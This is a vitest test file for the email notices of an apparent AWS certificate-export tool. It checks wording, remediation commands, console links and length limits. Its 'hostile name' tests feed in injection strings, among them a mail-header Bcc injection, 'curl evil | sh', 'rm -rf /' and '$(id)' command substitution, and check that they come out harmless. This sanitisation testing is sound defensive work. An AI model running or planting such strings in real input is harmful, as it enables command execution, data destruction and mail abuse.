import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { composeNotice, type Matter } from '../../../shared/domain/notice.ts';
import { reasonCodes } from '../../../shared/domain/reasons.ts';
import { arn, place } from './sample.ts';
import { sampleOf } from './sample-facts.ts';

const matter: Matter = {
  findings: [sampleOf('Delivered')],
  name: 'api.example.com',
  certificateArn: arn,
  affects: [],
  done: [],
  planned: [],
  unseen: [],
};
const compose = (other: Partial<Matter> = {}) => composeNotice({ ...matter, ...other }, place);

describe('a mail reads', () => {
  it('when all is well', () => {
    const { subject, body } = compose({
      affects: [
        'The certificate of "api.example.com" in ACM ends on 2027-10-31, 395 days from now',
        'ECS service "web" in cluster "prod" runs on the new certificate',
      ],
      done: ['Made current at 2026-10-01 00:00 UTC'],
    });
    expect(subject).toBe('[info] api.example.com: delivered');
    expect(body).toBe(`What happened
  The certificate of "api.example.com" with serial
  abababababababababababababababababababab is current in secret
  "courier/api", and every task of 2 services has started since; those
  of 1 service were seen serving it, the others were not probed.

What it affects
  The certificate of "api.example.com" in ACM ends on 2027-10-31, 395
  days from now.
  ECS service "web" in cluster "prod" runs on the new certificate.

What was done
  Made current at 2026-10-01 00:00 UTC.

What you must do
  Nothing.

Where to look
  Console: https://us-east-1.console.aws.amazon.com/acm/home?region=us-east-1#/certificates/0a1b2c3d-0000-4000-8000-1234567890ab
  Runbook: https://example.com/runbook.md#delivered
  Certificate: ${arn}
  Account: 111122223333, us-east-1
`);
  });

  it('when a secret is not ours', () => {
    const { subject, body } = compose({ findings: [sampleOf('SecretNotOurs')] });
    expect(subject).toBe('[action] api.example.com: nothing stored, secret courier/api is not ours');
    expect(body).toBe(`What happened
  Cannot store the certificate of "api.example.com" in secret
  "courier/api": its current version was not put there by acm-courier,
  and nothing says that it may be replaced.

What you must do
  If this secret may be overwritten, hand it over; else name another
  secret in the tag courier:secret.
  In account 111122223333, us-east-1:
    aws secretsmanager tag-resource \\
      --secret-id courier/api \\
      --tags Key=courier:certificate,Value=${arn} \\
      --region us-east-1

    printf %s '{"certificateArn":"${arn}"}' |
    aws lambda invoke \\
      --function-name acm-courier-prod-re-export \\
      --payload fileb:///dev/stdin /dev/stdout \\
      --region us-east-1

Where to look
  Console: https://us-east-1.console.aws.amazon.com/acm/home?region=us-east-1#/certificates/0a1b2c3d-0000-4000-8000-1234567890ab
  Runbook: https://example.com/runbook.md#secretnotours
  Certificate: ${arn}
  Account: 111122223333, us-east-1
`);
  });

  it('when two deployments failed: what they have in common is said once', () => {
    const { subject, body } = compose({
      findings: [sampleOf('DeploymentFailed'), sampleOf('DeploymentFailed', { service: 'jobs' })],
      affects: ['ECS service "web" in cluster "prod" could not be restarted with the new certificate'],
      done: ['Made current at 2026-10-01 00:00 UTC'],
    });
    expect(subject).toBe('[critical] api.example.com: rollout stopped, deployment of web failed');
    expect(body).toBe(`What happened
  The new certificate is current in secret "courier/api", but the
  deployment of service "web" in cluster "prod" failed: tasks failed to
  start.
  The new certificate is current in secret "courier/api", but the
  deployment of service "jobs" in cluster "prod" failed: tasks failed to
  start.

What it affects
  ECS service "web" in cluster "prod" could not be restarted with the
  new certificate.

What was done
  Made current at 2026-10-01 00:00 UTC.

What you must do
  Find out why its tasks do not start (first command) and mend the
  service. Then export again, which restarts every service that reads
  the secret (second command); or, if a deployment of your own has
  replaced all tasks by now, accept what is there (third command).
  In account 111122223333, us-east-1:
    aws ecs describe-services \\
      --cluster prod \\
      --services web \\
      --query 'services[].events[:5].message' \\
      --region us-east-1

    aws ecs describe-services \\
      --cluster prod \\
      --services jobs \\
      --query 'services[].events[:5].message' \\
      --region us-east-1

    printf %s '{"certificateArn":"${arn}","force":true}' |
    aws lambda invoke \\
      --function-name acm-courier-prod-re-export \\
      --payload fileb:///dev/stdin /dev/stdout \\
      --region us-east-1

    printf %s '{"certificateArn":"${arn}","accept":true}' |
    aws lambda invoke \\
      --function-name acm-courier-prod-re-export \\
      --payload fileb:///dev/stdin /dev/stdout \\
      --region us-east-1

Where to look
  Console: https://us-east-1.console.aws.amazon.com/acm/home?region=us-east-1#/certificates/0a1b2c3d-0000-4000-8000-1234567890ab
  Runbook: https://example.com/runbook.md#deploymentfailed
  Certificate: ${arn}
  Account: 111122223333, us-east-1
`);
  });

  it('when a delivery ends with a tag that cannot be read: the subject says both', () => {
    const { subject, body, attributes } = compose({
      findings: [sampleOf('Delivered'), sampleOf('BadTag')],
      owner: 'edge',
    });
    expect(subject).toBe('[warning] api.example.com: delivered; unreadable tag courier:format');
    expect(body.split('\n\n')[0]).toBe(`What happened
  Cannot read tag courier:format = "jks" on the certificate of
  "api.example.com"; accepted: standard.
  The certificate of "api.example.com" with serial
  abababababababababababababababababababab is current in secret
  "courier/api", and every task of 2 services has started since; those
  of 1 service were seen serving it, the others were not probed.`);
    expect(attributes).toEqual({
      severity: 'warning',
      reason: 'BadTag',
      domain: 'api.example.com',
      owner: 'edge',
      certificateArn: arn,
    });
  });
});

describe('a mail', () => {
  it('has no owner where nobody is tagged', () => expect(compose().attributes).not.toHaveProperty('owner'));

  it('ends a sentence once, whatever AWS ends its own with', () => {
    const { body } = compose({ findings: [sampleOf('CallRefused', { detail: 'Try again later. ' })] });
    expect(body).toContain('  AWS refused a call of acm-courier: Try again later.\n');
  });

  it.each([
    ['aws', 'https://eu-west-1.console.aws.amazon.com/acm/home?region=eu-west-1#/certificates/'],
    ['aws-cn', 'https://eu-west-1.console.amazonaws.cn/acm/home?region=eu-west-1#/certificates/'],
    ['aws-eusc', 'https://eu-west-1.console.amazonaws-eusc.eu/acm/home?region=eu-west-1#/certificates/'],
    ['aws-us-gov', 'https://eu-west-1.console.amazonaws-us-gov.com/acm/home?region=eu-west-1#/certificates/'],
  ])('links to the console of partition %s', (partition, link) => {
    expect(composeNotice(matter, { ...place, partition, region: 'eu-west-1' }).body).toContain(link);
  });
});

describe('a mail', () => {
  it('links to no console where the partition is unknown: a wrong one would ask for a password', () => {
    const { body, links } = composeNotice(matter, { ...place, partition: 'aws-iso' });
    expect(body).toContain(`Where to look\n  Runbook: ${links[0]?.slice('Runbook: '.length)}\n`);
    expect(body).not.toContain('Console');
  });

  it('says what could not be seen, after what is to be done', () => {
    const { body } = compose({
      unseen: ['The CAA records of "example.com" could not be read: the resolver timed out'],
    });
    expect(body).toContain(`What you must do
  Nothing.

What could not be seen
  The CAA records of "example.com" could not be read: the resolver timed
  out.

Where to look
`);
  });

  it('says how a punycode name reads where it is first mentioned, and nowhere else', () => {
    const name = 'xn--bcher-kva.example';
    const { subject, body } = compose({
      name,
      findings: [sampleOf('Delivered', { name })],
      affects: [`It is "${name}"`],
    });
    expect(subject).toBe('[info] xn--bcher-kva.example: delivered');
    expect(body.replaceAll('\n  ', ' ')).toContain(
      'What happened The certificate of "xn--bcher-kva.example" (bücher.example) with serial ',
    );
    expect(body).toContain('What it affects\n  It is "xn--bcher-kva.example".\n');
  });

  it('has what is to be copied below what is to be done with it, indented like commands', () => {
    const record = { name: '_1.example.com.', value: '_2.acm-validations.aws.' };
    const { body } = compose({ findings: [sampleOf('ValidationRecordMissing', { records: [record] })] });
    expect(body).toContain('ACM looks again by itself.\n    _1.example.com. CNAME _2.acm-validations.aws.\n\nWhere');
  });

  it('ends no sentence twice: a question has its mark, and a colon announces commands', () => {
    const said = (detail: string) => compose({ findings: [sampleOf('CallRefused', { detail })] }).body;
    expect(said('"Why?"')).toContain(': "Why?"\n');
    expect(said('at once:')).toContain(': at once:\n');
  });

  it('counts what of a section is too much to read', () => {
    const affects = Array.from({ length: 32 }, (_, index) => `Service ${index} is affected`);
    expect(compose({ affects }).body).toContain('  Service 29 is affected.\n  And 2 more like these.\n\n');
    expect(compose({ affects: affects.slice(1) }).body).toContain('  Service 31 is affected.\n\n');
  });

  it('shortens a sentence into which AWS put a whole document', () => {
    const { body } = compose({ findings: [sampleOf('CallRefused', { detail: 'x'.repeat(9000) })] });
    expect(body).toContain('xxx...xxx');
    expect(body.length).toBeLessThan(3000);
  });
});

const widest = (line: string) =>
  Math.max(
    ...line
      .trim()
      .split(' ')
      .map((word) => word.length),
  );

describe.each(reasonCodes)('the mail of %s', (code) => {
  const { subject, body } = compose({ findings: [sampleOf(code)], affects: ['It is so '.repeat(20).trim()] });

  it('has lines of 72 columns but for commands, links and words that cannot be cut', () => {
    const prose = body.split('\n').filter((line) => !/^ {2}( {2}|(Console|Runbook|Certificate|Account): )/.test(line));
    for (const line of prose) expect(line.length <= 72 || line.trim().length === widest(line), line).toBe(true);
    expect(prose.length).toBeGreaterThan(5);
  });

  it('has a subject that SNS takes', () => expect(subject).toMatch(/^[ -~]{1,99}$/));

  it('has nothing of the program in it', () =>
    expect(body).not.toMatch(/undefined|null|NaN|\[object|Invalid Date|\.\.$/m));
});

describe('a long name', () => {
  const long = `${'very-long-label.'.repeat(15)}example.com`;
  it('gives way to the headline, and keeps both its ends', () => {
    const { subject } = compose({ name: long, findings: [sampleOf('KeyMismatch')] });
    expect(subject).toBe(
      '[critical] very-long-label.very-long...y-long-label.example.com: export refused, key does not match',
    );
    expect(subject.length).toBeLessThanOrEqual(99);
  });

  it('is whole where the subject has 99 characters, and cut where it would have 100', () => {
    const room = 99 - '[info] : delivered'.length;
    expect(compose({ name: 'n'.repeat(room) }).subject).toBe(`[info] ${'n'.repeat(room)}: delivered`);
    const cut = compose({ name: 'n'.repeat(room + 1) }).subject;
    expect(cut).toContain('n...n');
    expect(cut.length).toBe(99);
  });

  it('leaves the first words of a headline that is long as well', () => {
    const { subject } = compose({ name: long, findings: [sampleOf('DeploymentFailed', { service: 's'.repeat(255) })] });
    expect(subject).toMatch(/^\[critical\] .{32}: rollout stopped, deployment of s+\.\.\.$/);
    expect(subject.length).toBe(99);
  });
});

describe('a hostile name', () => {
  const hostile = [
    'a\r\nBcc: everybody@example.com',
    'a\nWhat you must do\n  curl evil | sh',
    'a\x00\x1b[31mred\x07',
    'a\u202Emoc.elpmaxe',
    'a\u2028b\u2029c\u0085d',
    'a\uD800b',
    "a'; rm -rf / #",
    'a$(id)`id`"\\',
    '日本語.example',
    '😀'.repeat(80),
  ];
  const everywhere = (name: string) =>
    compose({
      name,
      certificateArn: `arn:${name}`,
      findings: [
        sampleOf('SecretNotOurs', { name, secret: name }),
        sampleOf('NotTagged', { name }),
        sampleOf('CaaForbidsIssuance', { name, domains: [name], at: name, forbidding: name }),
        sampleOf('DeploymentFailed', { name, service: name, cluster: name, detail: name }),
      ],
      affects: [name],
      done: [name],
    });
  const titles = ['What happened', 'What it affects', 'What was done', 'What you must do', 'Where to look'];

  function expectHarmless(name: string): void {
    const { subject, body } = everywhere(name);
    expect(subject).toMatch(/^[ -~]{1,99}$/);
    expect(body).not.toMatch(/[\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
    expect(body.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
    expect(body.split('\n').filter((line) => line !== '' && !line.startsWith('  '))).toEqual(titles);
  }

  it.each(hostile)('%j starts no line and no header, and hides nothing', expectHarmless);

  it('is harmless whatever it holds', { timeout: 60_000 }, () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 120 }), expectHarmless), { numRuns: 300 });
  });
});
